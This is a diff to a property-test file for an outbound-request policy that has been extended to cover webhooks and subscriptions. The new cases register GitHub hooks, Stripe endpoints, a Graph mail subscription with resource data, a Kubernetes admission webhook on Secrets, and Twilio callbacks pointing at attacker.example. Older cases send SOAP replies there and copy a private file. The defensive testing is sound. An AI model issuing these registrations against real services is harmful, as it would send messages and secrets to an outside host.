@@ -234,6 +234,18 @@ const dav = await startUpstream(t, {
       sentTo.push(`${o.type} ${o.settings.bucket ?? o.settings.url ?? o.settings.location}`);
       return void res.writeHead(200, { 'content-length': 2 }).end('ok');
     }
+    // Webhooks and change subscriptions (GitHub/GitLab hooks, Stripe webhook endpoints, Kubernetes
+    // admission webhooks, Microsoft Graph subscriptions, Twilio's status callbacks): the service
+    // sends to the URL registered, later and on its own.
+    if (req.method === 'POST' && /\/(?:hooks|webhook_endpoints|validatingwebhookconfigurations|subscriptions|Messages\.json)$/.test(src)) {
+      const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
+      const walk = (v: unknown, key = ''): void => {
+        if (typeof v === 'string' && /^(?:url|notificationurl|lifecyclenotificationurl|statuscallback)$/i.test(key)) sentTo.push(v);
+        else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, k);
+      };
+      walk(form ? Object.fromEntries(new URLSearchParams(body.toString())) : JSON.parse(body.toString()));
+      return void res.writeHead(201, { 'content-length': 0 }).end();
+    }
     // Stored scripts, which a reindex or an ingest pipeline runs by id.
     const stored = /^\/_scripts\/([^/]+)$/.exec(src);
     if (stored && (req.method === 'PUT' || req.method === 'POST')) {
@@ -1075,11 +1087,13 @@ t.test('property: a second target\'s endpoint spelled as its server routes it, a
   ), { numRuns: Math.min(numRuns, 8), ...seed });
 });
 
-t.test('property: a configuration that has the server send elsewhere later (bucket notifications, push channels, snapshot repositories, WS-Addressing replies) is decided at its destination; stored scripts and Swift\'s other layouts are read', async (t) => {
+t.test('property: a configuration that has the server send elsewhere later (bucket notifications, push channels, webhooks and subscriptions, snapshot repositories, WS-Addressing replies) is decided at its destination; stored scripts and Swift\'s other layouts are read', async (t) => {
   // Sixteenth pass. Each of these went through as a request to an allowed path while the server
   // then sent to (or read from) a destination the policy denies: S3 sends every object event to
   // the queue, topic or function an ARN of any account names, GCS to any project's Pub/Sub topic,
-  // a Google push channel POSTs each change to its address, a snapshot repository writes the
+  // a Google push channel POSTs each change to its address, a webhook or a Graph subscription each
+  // event (with the message, for `includeResourceData`), a Kubernetes admission webhook every
+  // object admitted (Secrets too), a snapshot repository writes the
   // cluster's indices into any bucket (or restores from any URL), CXF and Axis2 post a SOAP answer
   // to a non-anonymous ReplyTo/FaultTo. A reindex or ingest pipeline running a stored script by id
   // wrote where the script (never part of a decided request) said; Swift's `v1.0` and Ceph RGW's
@@ -1102,10 +1116,12 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['PUT', '/_snapshot/local', json, JSON.stringify({ type: 'fs', settings: { location: '/mnt/backups' } })],
     ['POST', '/ok/soap', 'application/soap+xml', soap('http://www.w3.org/2005/08/addressing/anonymous')],
     ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { source: "ctx._source.a = 1" } })],
+    ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: `http://allowed.example:${dav.port}/ok/ci`, content_type: 'json' } })],
+    ['POST', '/ok/v1/links', json, JSON.stringify({ url: 'https://attacker.example/shortened' })],
   ] as const) {
-    t.match(await send(method, path, type, body, false), /^HTTP\/1\.1 20\d/, `control: ${method} ${path} ${body.slice(0, 80)} goes through`);
+    t.match(await send(method, path, type, body, false), /^HTTP\/1\.1 (?:20\d|404 Not Found)/, `control: ${method} ${path} ${body.slice(0, 80)} goes through (forwarded)`);
   }
-  t.same(sentTo.filter((x) => !x.startsWith('arn:minio') && !x.startsWith('fs ')), [], 'the controls sent nowhere but where the operator configured');
+  t.same(sentTo.filter((x) => !x.startsWith('arn:minio') && !x.startsWith('fs ') && !x.startsWith('http://allowed.example:')), [], 'the controls sent nowhere but where the operator configured or the policy allows');
   t.match(await send('PUT', '/v1/AUTH_a/ok/mine2', '', '', false, 'X-Copy-From: /ok/a.txt\r\n'), /^HTTP\/1\.1 201/, 'control: a Swift copy within the account goes through');
   const before = [sentTo.length, esRan.length, swiftRan.length] as const;
   const cases: Array<[string, string, string, string, string?]> = [
@@ -1124,6 +1140,12 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['POST', '/ok/soap', 'application/soap+xml', soap('http://attacker.example/collect')],
     ['POST', '/ok/soap', 'text/xml', soap('https://attacker.example/fault', 'FaultTo', '')],
     ['POST', '/ok/soap', 'application/soap+xml', soap('jms:queue:exfil', 'ReplyTo', 'a:')],
+    // Webhooks and subscriptions registered to a host the policy denies.
+    ['POST', '/ok/v1.0/subscriptions', json, JSON.stringify({ changeType: 'created', notificationUrl: 'https://attacker.example/notify', resource: 'me/messages', includeResourceData: true, expirationDateTime: '2030-01-01T00:00:00Z' })],
+    ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: 'https://attacker.example/hook', content_type: 'json' } })],
+    ['POST', '/ok/v1/webhook_endpoints', 'application/x-www-form-urlencoded', 'enabled_events[]=*&url=https%3A%2F%2Fattacker.example%2Fstripe'],
+    ['POST', '/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', json, JSON.stringify({ webhooks: [{ name: 'x.example', clientConfig: { url: 'https://attacker.example/admit' }, rules: [{ operations: ['CREATE'], resources: ['secrets'] }] }] })],
+    ['POST', '/ok/2010-04-01/Accounts/AC1/Messages.json', 'application/x-www-form-urlencoded', 'To=%2B15550100&Body=hi&StatusCallback=https%3A%2F%2Fattacker.example%2Fsms'],
     ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { id: 'route' } })],
     ['PUT', '/_ingest/pipeline/stored', json, JSON.stringify({ processors: [{ script: { id: 'route' } }] })],
     ['PUT', '/v1.0/AUTH_a/ok/obj', '', '', 'X-Copy-From: /private/secret.txt\r\n'],
